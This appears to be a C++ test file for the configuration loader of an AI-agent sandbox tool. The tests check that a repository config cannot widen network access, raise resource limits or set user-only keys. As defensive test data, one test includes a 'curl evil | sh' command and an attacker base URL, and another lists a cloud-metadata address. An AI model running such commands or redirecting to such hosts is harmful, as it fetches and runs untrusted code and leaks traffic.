#include <doctest/doctest.h>

#include <cstdint>
#include <string>
#include <vector>

#include "config/config.hpp"

using mullet::Error;
using mullet::ExitCode;
using mullet::config::Config;
using mullet::config::Problem;
using mullet::config::Source;
using mullet::config::throw_if_problems;
using Strings = std::vector<std::string>;

namespace {

bool contains(const std::string& text, const std::string& part) {
  return text.find(part) != std::string::npos;
}

// All problem messages, one per line, for failure output.
std::string messages(const std::vector<Problem>& problems) {
  std::string all;
  for (const auto& problem : problems) all += problem.message + "\n";
  return all;
}

std::vector<Problem> merge_user(Config& config, const std::string& text) {
  return config.merge_toml(text, "user.toml", Source::user_file);
}

std::vector<Problem> merge_repo(Config& config, const std::string& text) {
  return config.merge_toml(text, ".mullet.toml@abc", Source::repo_file);
}

// Merges `text` as the user file into a fresh config and expects exactly one
// malformed-input problem whose message contains every part.
void expect_one_usage_problem(const std::string& text, const Strings& parts) {
  Config config;
  const auto problems = merge_user(config, text);
  INFO("toml: " << text);
  INFO("problems: " << messages(problems));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::usage);
  for (const auto& part : parts) CHECK(contains(problems[0].message, part));
}

// The one problem whose message contains every part, or nullptr. (Problems
// come in the document's key order, which is not the file's line order.)
const Problem* find_problem(const std::vector<Problem>& problems, const Strings& parts) {
  const Problem* found = nullptr;
  for (const auto& problem : problems) {
    bool all = true;
    for (const auto& part : parts) all = all && contains(problem.message, part);
    if (all) {
      if (found != nullptr) return nullptr;
      found = &problem;
    }
  }
  return found;
}

}  // namespace

TEST_CASE("a new Config holds the built-in defaults") {
  const Config config;
  CHECK(config.string("run.executor") == "claude");
  CHECK(config.string("run.command") == "");
  CHECK(config.list("sandbox.env").empty());
  CHECK(config.integer("sandbox.uid") == 1879048192);
  CHECK(config.integer("sandbox.uid_count") == 1024);
  CHECK(config.list("network.setup").empty());
  CHECK(config.list("network.worker").empty());
  CHECK(config.string("claude.binary") == "claude");
  CHECK(config.string("claude.base_url") == "https://api.anthropic.com");
  CHECK(config.list("claude.allow_bash").empty());
  CHECK(config.integer("limits.timeout") == 3600);
  CHECK(config.integer("limits.inactivity") == 1800);
  CHECK(config.integer("limits.memory_mb") == 8192);
  CHECK(config.integer("limits.processes") == 1024);
  CHECK(config.integer("limits.disk_mb") == 10240);
  CHECK(config.gates().empty());
  CHECK(config.string("run.setup").empty());
  CHECK(config.list("run.dependency_dirs") ==
        std::vector<std::string>{"node_modules", "vendor", ".venv", "target", "build"});
  CHECK(config.entries().size() == 24);
  for (const auto& [key, entry] : config.entries()) {
    INFO(key);
    CHECK(entry.source == Source::built_in);
    CHECK(entry.origin == "built-in");
  }
}

TEST_CASE("asking for a key that does not exist is an internal error") {
  const Config config;
  CHECK_THROWS_AS(config.entry("limits.nonsense"), Error);
  try {
    config.string("run.nope");
    FAIL("no exception");
  } catch (const Error& error) {
    CHECK(error.code() == ExitCode::job_failed);
    CHECK(contains(error.what(), "run.nope"));
  }
}

TEST_CASE("merging a user file sets values and records where each came from") {
  Config config;
  const auto problems = merge_user(config,
                                   "[run]\n"
                                   "executor = \"command\"\n"
                                   "command = \"make fix\"\n"
                                   "\n"
                                   "[sandbox]\n"
                                   "env = [\"CARGO_HOME\", \"GOFLAGS\"]\n"
                                   "uid = 1001\n"
                                   "\n"
                                   "[network]\n"
                                   "worker = [\"api.example.com:443\", \"*\"]\n"
                                   "\n"
                                   "[limits]\n"
                                   "timeout = 600\n");
  INFO(messages(problems));
  REQUIRE(problems.empty());
  CHECK(config.string("run.executor") == "command");
  CHECK(config.string("run.command") == "make fix");
  CHECK(config.list("sandbox.env") == Strings{"CARGO_HOME", "GOFLAGS"});
  CHECK(config.integer("sandbox.uid") == 1001);
  CHECK(config.list("network.worker") == Strings{"api.example.com:443", "*"});
  CHECK(config.integer("limits.timeout") == 600);

  CHECK(config.entry("run.executor").source == Source::user_file);
  CHECK(config.entry("run.executor").origin == "user.toml:2");
  CHECK(config.entry("sandbox.env").origin == "user.toml:6");
  CHECK(config.entry("limits.timeout").origin == "user.toml:13");
  // Keys the file does not mention keep their defaults.
  CHECK(config.integer("limits.inactivity") == 1800);
  CHECK(config.entry("limits.inactivity").source == Source::built_in);
  CHECK(config.entry("limits.inactivity").origin == "built-in");
}

TEST_CASE("an empty user file changes nothing") {
  Config config;
  CHECK(merge_user(config, "").empty());
  CHECK(merge_user(config, "# only a comment\n").empty());
  CHECK(config.string("run.executor") == "claude");
}

TEST_CASE("an unknown key is a problem naming file, line and key") {
  expect_one_usage_problem("[limits]\ntimeout = 10\nbogus = 1\n", {"user.toml:3", "limits.bogus", "unknown key"});
  expect_one_usage_problem("\n[nosuch]\nkey = 1\n", {"user.toml:3", "nosuch.key", "unknown key"});
  expect_one_usage_problem("timeout = 5\n", {"user.toml:1", "timeout", "unknown key"});

  Config config;
  const auto problems = merge_user(config, "[limits]\ntimeout = 10\nbogus = 1\n");
  // The good key beside it is still taken.
  CHECK(config.integer("limits.timeout") == 10);
  CHECK(problems[0].message == "user.toml:3: limits.bogus: unknown key");
}

TEST_CASE("a value of the wrong type is a problem and leaves the default") {
  expect_one_usage_problem("[limits]\ntimeout = \"10\"\n", {"user.toml:2", "limits.timeout", "must be an integer"});
  expect_one_usage_problem("[run]\nexecutor = 3\n", {"user.toml:2", "run.executor", "must be a string"});
  expect_one_usage_problem("[sandbox]\nenv = \"HOME\"\n", {"sandbox.env", "must be an array of strings"});
  expect_one_usage_problem("[sandbox]\nenv = [\"A\", 1]\n", {"sandbox.env", "must be an array of strings"});
  expect_one_usage_problem("[limits]\ntimeout = 1.5\n", {"limits.timeout", "must be an integer"});
  expect_one_usage_problem("[limits]\ntimeout = true\n", {"limits.timeout", "must be an integer"});

  Config config;
  merge_user(config, "[limits]\ntimeout = \"10\"\n");
  CHECK(config.integer("limits.timeout") == 3600);
}

TEST_CASE("invalid values are problems naming the value") {
  SUBCASE("environment names") {
    expect_one_usage_problem("[sandbox]\nenv = [\"OK_NAME\", \"A-B\"]\n",
                             {"user.toml:2", "sandbox.env", "'A-B'", "not a valid environment variable name"});
    expect_one_usage_problem("[sandbox]\nenv = [\"1ABC\"]\n", {"'1ABC'"});
    expect_one_usage_problem("[sandbox]\nenv = [\"\"]\n", {"''"});
  }
  SUBCASE("network destinations") {
    expect_one_usage_problem("[network]\nworker = [\"host\"]\n", {"network.worker", "'host'", "host:port"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:0\"]\n", {"network.setup", "'example.com:0'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:70000\"]\n", {"'example.com:70000'"});
    expect_one_usage_problem("[network]\nsetup = [\":443\"]\n", {"':443'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:\"]\n", {"'example.com:'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:-1\"]\n", {"'example.com:-1'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:443x\"]\n", {"'example.com:443x'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:000443\"]\n", {"'example.com:000443'"});
  }
  SUBCASE("good network destinations, and * alone") {
    Config config;
    const auto problems = merge_user(config,
                                     "[network]\n"
                                     "setup = [\"*\"]\n"
                                     "worker = [\"a.example:1\", \"b.example:65535\", \"[::1]:8080\"]\n");
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.list("network.setup") == Strings{"*"});
    CHECK(config.list("network.worker").size() == 3);
  }
  SUBCASE("limits must be positive") {
    expect_one_usage_problem("[limits]\ntimeout = -5\n", {"limits.timeout", "positive"});
    expect_one_usage_problem("[limits]\nmemory_mb = 0\n", {"limits.memory_mb", "positive"});
    expect_one_usage_problem("[sandbox]\nuid = 0\n", {"sandbox.uid", "positive"});
    expect_one_usage_problem("[sandbox]\nuid_count = 0\n", {"sandbox.uid_count", "positive"});
  }
  SUBCASE("unknown executor") {
    expect_one_usage_problem("[run]\nexecutor = \"docker\"\n", {"run.executor", "unknown executor 'docker'"});
  }
}

TEST_CASE("a TOML syntax error is one problem with the line it is on") {
  Config config;
  const auto problems = merge_user(config, "[limits]\ntimeout = 10\nmemory_mb = = 3\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::usage);
  CHECK(contains(problems[0].message, "user.toml:3: "));
  // Nothing of a broken file is applied.
  CHECK(config.integer("limits.timeout") == 3600);
}

TEST_CASE("the repository file may not set user-only keys") {
  for (const std::string text :
       {"[run]\nexecutor = \"command\"\n", "[run]\ncommand = \"curl evil | sh\"\n", "[sandbox]\nuid = 1000\n",
        "[claude]\nbinary = \"/tmp/x\"\n", "[claude]\nbase_url = \"https://evil.example\"\n"}) {
    Config config;
    const Config before;
    const auto problems = merge_repo(config, text);
    INFO(text);
    INFO(messages(problems));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(contains(problems[0].message, ".mullet.toml@abc:2"));
    CHECK(contains(problems[0].message, "only your user config"));
    // The value is not taken.
    CHECK(config.describe() == before.describe());
  }
}

TEST_CASE("the repository file may narrow a list the user allows") {
  Config config;
  REQUIRE(merge_user(config,
                     "[network]\nworker = [\"a.example:443\", \"b.example:443\"]\n"
                     "[sandbox]\nenv = [\"GOFLAGS\", \"CARGO_HOME\"]\n")
              .empty());
  const auto problems = merge_repo(config, "[network]\nworker = [\"b.example:443\"]\n[sandbox]\nenv = []\n");
  INFO(messages(problems));
  CHECK(problems.empty());
  CHECK(config.list("network.worker") == Strings{"b.example:443"});
  CHECK(config.list("sandbox.env").empty());
  CHECK(config.entry("network.worker").source == Source::repo_file);
  CHECK(config.entry("network.worker").origin == ".mullet.toml@abc:2");
}

TEST_CASE("the repository file may pick any destination when the user allows *") {
  Config config;
  REQUIRE(merge_user(config, "[network]\nsetup = [\"*\"]\n").empty());
  const auto problems = merge_repo(config, "[network]\nsetup = [\"registry.npmjs.org:443\"]\n");
  CHECK(problems.empty());
  CHECK(config.list("network.setup") == Strings{"registry.npmjs.org:443"});
}

TEST_CASE("the repository file may not widen a list") {
  Config config;
  REQUIRE(merge_user(config, "[network]\nworker = [\"a.example:443\"]\n").empty());
  const auto problems =
      merge_repo(config, "[network]\nworker = [\"a.example:443\", \"evil.example:443\"]\nsetup = [\"*\"]\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 2);
  for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
  const Problem* evil = find_problem(problems, {".mullet.toml@abc:2", "network.worker", "'evil.example:443'"});
  REQUIRE(evil != nullptr);
  CHECK(contains(evil->message, "may only narrow"));
  CHECK(find_problem(problems, {".mullet.toml@abc:3", "network.setup", "'*'"}) != nullptr);
}

TEST_CASE("a refused list from the repository file is not applied") {
  // Regression: Config::merge_toml used to record the refusal for a widened list
  // (RepoRule::narrow_list) but, unlike the user_only and lower_only rules,
  // does not `continue`, so the widened list replaces the user's one anyway.
  // Today every caller throws on any problem, but the Config is left holding a
  // wall the repository widened.
  Config config;
  REQUIRE(merge_user(config, "[network]\nworker = [\"a.example:443\"]\n").empty());
  const auto problems = merge_repo(config, "[network]\nworker = [\"evil.example:443\"]\n");
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::refused);
  CHECK(config.list("network.worker") == Strings{"a.example:443"});
  CHECK(config.entry("network.worker").source == Source::user_file);
}

TEST_CASE("the repository file may lower a limit but not raise it") {
  Config config;
  REQUIRE(merge_user(config, "[limits]\ntimeout = 600\n").empty());

  SUBCASE("lower") {
    const auto problems = merge_repo(config, "[limits]\ntimeout = 300\nmemory_mb = 1024\n");
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.integer("limits.timeout") == 300);
    CHECK(config.integer("limits.memory_mb") == 1024);
    CHECK(config.entry("limits.timeout").source == Source::repo_file);
  }
  SUBCASE("equal") {
    CHECK(merge_repo(config, "[limits]\ntimeout = 600\n").empty());
    CHECK(config.integer("limits.timeout") == 600);
  }
  SUBCASE("raise") {
    const auto problems = merge_repo(config, "[limits]\ntimeout = 601\nprocesses = 100000\n");
    INFO(messages(problems));
    REQUIRE(problems.size() == 2);
    for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
    CHECK(find_problem(problems, {".mullet.toml@abc:2", "limits.timeout", "may only lower", "yours is 600"}) !=
          nullptr);
    CHECK(find_problem(problems, {".mullet.toml@abc:3", "limits.processes", "yours is 1024"}) != nullptr);
    CHECK(config.integer("limits.timeout") == 600);
    CHECK(config.integer("limits.processes") == 1024);
  }
}

TEST_CASE("malformed input in the repository file is a usage problem, not a refusal") {
  Config config;
  const auto problems = merge_repo(config, "[limits]\ntimeout = \"x\"\nbogus = 1\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 2);
  CHECK(problems[0].severity == ExitCode::usage);
  CHECK(problems[1].severity == ExitCode::usage);
}

TEST_CASE("[[gate]] tables become gates") {
  Config config;
  const auto problems =
      merge_user(config,
                 "[[gate]]\n"
                 "name = \"tests\"\n"
                 "command = \"make test\"\n"
                 "timeout = 120\n"
                 "\n"
                 "[[gate]]\n"
                 "command = \"  cargo clippy --all-targets -- -D warnings and a much longer tail\"\n");
  INFO(messages(problems));
  REQUIRE(problems.empty());
  REQUIRE(config.gates().size() == 2);
  const auto& first = config.gates()[0];
  CHECK(first.name == "tests");
  CHECK(first.command == "make test");
  CHECK(first.timeout_seconds == 120);
  CHECK(first.origin == "user.toml:1");
  const auto& second = config.gates()[1];
  // Without a name, the gate is named after its command (cut to 40).
  CHECK(second.name == "cargo clippy --all-targets -- -D warn...");
  CHECK(second.timeout_seconds == 0);
  CHECK(second.origin == "user.toml:6");
}

TEST_CASE("[[gate]] problems") {
  SUBCASE("missing command") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\nname = \"empty\"\n");
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::usage);
    CHECK(contains(problems[0].message, "user.toml:1"));
    CHECK(contains(problems[0].message, "needs a command"));
    CHECK(config.gates().empty());
  }
  SUBCASE("unknown key") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\ncommand = \"make\"\nshell = \"zsh\"\n");
    REQUIRE(problems.size() == 1);
    CHECK(contains(problems[0].message, "user.toml:3"));
    CHECK(contains(problems[0].message, "gate.shell"));
    CHECK(contains(problems[0].message, "unknown key"));
    CHECK(config.gates().empty());
  }
  SUBCASE("bad timeout") {
    expect_one_usage_problem("[[gate]]\ncommand = \"make\"\ntimeout = 0\n", {"gate.timeout", "positive integer"});
    expect_one_usage_problem("[[gate]]\ncommand = \"make\"\ntimeout = \"60\"\n", {"gate.timeout"});
  }
  SUBCASE("command not a string") {
    expect_one_usage_problem("[[gate]]\ncommand = [\"make\", \"test\"]\n", {"gate.command", "must be a string"});
  }
  SUBCASE("gate as a plain table") {
    expect_one_usage_problem("[gate]\ncommand = \"make\"\n", {"gate", "array of tables"});
  }
  SUBCASE("a bad gate does not stop a good one") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\nname = \"x\"\n[[gate]]\ncommand = \"true\"\n");
    CHECK(problems.size() == 1);
    REQUIRE(config.gates().size() == 1);
    CHECK(config.gates()[0].command == "true");
  }
}

TEST_CASE("throw_if_problems") {
  SUBCASE("no problems, no exception") {
    CHECK_NOTHROW(throw_if_problems({}));
  }
  SUBCASE("usage problems only") {
    try {
      throw_if_problems({{ExitCode::usage, "a.toml:1: one"}, {ExitCode::usage, "a.toml:2: two"}});
      FAIL("no exception");
    } catch (const Error& error) {
      CHECK(error.code() == ExitCode::usage);
      CHECK(std::string(error.what()) == "invalid configuration:\n  a.toml:1: one\n  a.toml:2: two");
      CHECK(contains(error.hint(), "fix the configuration file"));
    }
  }
  SUBCASE("refused wins wherever it is") {
    for (const auto& problems : {std::vector<Problem>{{ExitCode::usage, "u"}, {ExitCode::refused, "r"}},
                                 std::vector<Problem>{{ExitCode::refused, "r"}, {ExitCode::usage, "u"}}}) {
      try {
        throw_if_problems(problems);
        FAIL("no exception");
      } catch (const Error& error) {
        CHECK(error.code() == ExitCode::refused);
        CHECK(contains(error.what(), "  u"));
        CHECK(contains(error.what(), "  r"));
        CHECK(contains(error.hint(), "narrow"));
      }
    }
  }
}

TEST_CASE("set_from_flag validates like the files do") {
  Config config;
  config.set_from_flag("limits.timeout", std::int64_t{42}, "--timeout");
  CHECK(config.integer("limits.timeout") == 42);
  CHECK(config.entry("limits.timeout").source == Source::flag);
  CHECK(config.entry("limits.timeout").origin == "--timeout");

  config.set_from_flag("run.executor", std::string("command"), "--executor");
  CHECK(config.string("run.executor") == "command");

  const auto expect_usage = [&](const std::string& key, mullet::config::Value value, const std::string& flag,
                                const std::string& part) {
    try {
      config.set_from_flag(key, std::move(value), flag);
      FAIL("no exception for " << flag);
    } catch (const Error& error) {
      CHECK(error.code() == ExitCode::usage);
      CHECK(contains(error.what(), flag + ": "));
      CHECK(contains(error.what(), part));
    }
  };
  expect_usage("limits.timeout", std::int64_t{0}, "--timeout", "positive");
  expect_usage("limits.memory_mb", std::int64_t{-1}, "--memory", "positive");
  expect_usage("run.executor", std::string("podman"), "--executor", "unknown executor 'podman'");
  expect_usage("sandbox.env", Strings{"GOOD", "BAD NAME"}, "--env", "'BAD NAME'");
  expect_usage("network.worker", Strings{"example.com"}, "--allow-net", "'example.com'");
  // A refused flag changes nothing.
  CHECK(config.integer("limits.timeout") == 42);
  CHECK(config.integer("limits.memory_mb") == 8192);
  CHECK(config.string("run.executor") == "command");
}

TEST_CASE("describe lists every key with its value and origin") {
  Config config;
  REQUIRE(merge_user(config,
                     "[limits]\ntimeout = 600\n[sandbox]\nenv = [\"GOFLAGS\"]\n"
                     "[[gate]]\nname = \"unit\"\ncommand = \"make test\"\ntimeout = 60\n")
              .empty());
  config.set_from_flag("limits.memory_mb", std::int64_t{2048}, "--memory");
  const std::string text = config.describe();
  INFO(text);
  CHECK(contains(text, "[run]\n"));
  CHECK(contains(text, "[limits]\n"));
  CHECK(contains(text, "executor = 'claude'  # built-in\n"));
  CHECK(contains(text, "timeout = 600  # user.toml:2\n"));
  CHECK(contains(text, "env = [ 'GOFLAGS' ]  # user.toml:4\n"));
  CHECK(contains(text, "setup = []  # built-in\n"));
  CHECK(contains(text, "memory_mb = 2048  # --memory\n"));
  CHECK(contains(text, "processes = 1024  # built-in\n"));
  CHECK(contains(text, "disk_mb = 10240  # built-in\n"));
  CHECK(contains(text, "[[gate]]  # user.toml:5\nname = 'unit'\ncommand = 'make test'\ntimeout = 60\n"));
  // Each section header appears once.
  CHECK(text.find("[limits]") == text.rfind("[limits]"));
}

TEST_CASE("source_name") {
  CHECK(mullet::config::source_name(Source::built_in) == "built-in");
  CHECK(mullet::config::source_name(Source::user_file) == "user config");
  CHECK(mullet::config::source_name(Source::repo_file) == "repository config");
  CHECK(mullet::config::source_name(Source::flag) == "flag");
}

TEST_CASE("a repository cannot narrow \"*\" to an address") {
  // "*" reaches public destinations only; naming an address (the host's own,
  // a private network, cloud metadata) would widen it.
  Config config;
  REQUIRE(config.merge_toml("[network]\nworker = [\"*\"]\n", "user.toml", Source::user_file).empty());
  CHECK(config.merge_toml("[network]\nworker = [\"api.example.com:443\"]\n", "repo", Source::repo_file).empty());
  for (const char* item : {"127.0.0.1:8080", "169.254.169.254:80", "[::1]:22", "10.0.0.1:5432"}) {
    Config fresh;
    REQUIRE(fresh.merge_toml("[network]\nworker = [\"*\"]\n", "user.toml", Source::user_file).empty());
    const auto problems =
        fresh.merge_toml(std::string("[network]\nworker = [\"") + item + "\"]\n", "repo", Source::repo_file);
    INFO(item);
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == mullet::ExitCode::refused);
    CHECK(fresh.list("network.worker") == std::vector<std::string>{"*"});
  }
}
